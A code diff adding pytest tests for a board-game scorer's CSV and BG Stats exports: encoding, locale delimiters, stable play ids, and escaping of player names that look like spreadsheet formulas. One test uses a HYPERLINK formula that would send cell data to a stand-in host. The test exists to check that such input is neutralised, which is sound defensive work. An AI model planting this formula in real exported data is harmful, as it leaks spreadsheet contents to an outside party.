@@ -12,7 +12,7 @@ import pytest
 
 from scorer.cards import Deck
 from scorer.errors import RefusedInput
-from scorer.exchange import MODELS, bgstats_link, bgstats_play, qr_code, qr_picture, to_csv
+from scorer.exchange import MODELS, bgstats_link, bgstats_play, qr_code, qr_picture, spreadsheet, to_csv
 from scorer.gamefile import GameFile
 from scorer.result import Result, score
 from scorer.result.advice import advise
@@ -27,7 +27,7 @@ def result(data: dict[str, Any] | None = None) -> Result:
 
 class TestCsv:
     def rows(self, data: dict[str, Any] | None = None) -> list[dict[str, str]]:
-        return list(csv.DictReader(io.StringIO(to_csv(result(data)))))
+        return list(csv.DictReader(io.StringIO(to_csv(result(data)).removeprefix("\ufeff"))))
 
     def test_a_row_a_player(self) -> None:
         rita, eric = self.rows()
@@ -135,3 +135,51 @@ class TestBgStats:
     def test_a_link_too_long_for_a_qr_code(self) -> None:
         with pytest.raises(RefusedInput, match="more than a QR code holds"):
             qr_code("https://app.bgstatsapp.com/" + "x" * 3000)
+
+
+class TestSpreadsheets:
+    """CSV opens in a spreadsheet with a double click, whatever the language, and names are never formulas."""
+
+    @pytest.mark.parametrize(("edition", "mark"), [("en", ","), ("pt", ";"), ("fr", ";"), ("cs", ";")])
+    def test_a_table_opens_in_columns(self, edition: str, mark: str) -> None:
+        text = to_csv(result(eric(name="Jiří Řehoř") | {"edition": edition}))
+        assert text.encode("utf-8").startswith(b"\xef\xbb\xbf"), "Excel takes it for UTF-8"
+        lines = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=mark))
+        assert {len(line) for line in lines} == {17}
+        assert lines[2][2] == "Jiří Řehoř"
+        english = lines[0][0] == "form"
+        assert english == (edition == "en")
+
+    @pytest.mark.parametrize("name", ['=HYPERLINK("http://x.test?"&C2)', "+1+1", "-2+3", "@SUM(A1:A9)"])
+    def test_a_name_is_no_formula(self, name: str) -> None:
+        lines = list(csv.reader(io.StringIO(to_csv(result(eric(name=name))))))
+        assert lines[2][2] == f"'{name}"
+        assert spreadsheet([[f"\t{name}"], [f"\r{name}"]], "en").count("'") == 2
+
+    def test_numbers_stay_numbers(self) -> None:
+        assert spreadsheet([[-4, 1.5]], "en") == "\ufeff-4,1.5\n"
+        assert spreadsheet([[-4, 1.5]], "fr") == "\ufeff-4;1,5\n"
+
+
+class TestOnePlay:
+    """A play has one id, whatever its words, and also when its form was mended."""
+
+    def test_by_its_key(self) -> None:
+        def identity(edition: str, hand: int) -> str:
+            told = result(eric(hand=hand) | {"edition": edition})
+            return str(bgstats_play(told, WHEN, key="table-1")["sourcePlayId"])
+
+        assert len({identity(edition, hand) for edition in ("en", "fr", "cs", "pt") for hand in (0, 3)}) == 1
+        assert bgstats_play(result(), WHEN, key="table-2")["sourcePlayId"] != identity("en", 0)
+
+    def test_without_a_key_by_its_numbers(self) -> None:
+        plays = [bgstats_play(result(game(edition=each)), WHEN) for each in ("en", "fr", "cs", "pt")]
+        assert len({play["sourcePlayId"] for play in plays}) == 1
+        assert bgstats_play(result(eric(hand=1, name="Jo")), WHEN)["sourcePlayId"] != plays[0]["sourcePlayId"]
+
+    def test_a_person_has_one_id(self) -> None:
+        ids = {
+            bgstats_play(result(eric(name=name)), WHEN)["players"][1]["sourcePlayerId"]
+            for name in ("Zoë", "Zoe\u0308", "zoë ")
+        }
+        assert len(ids) == 1
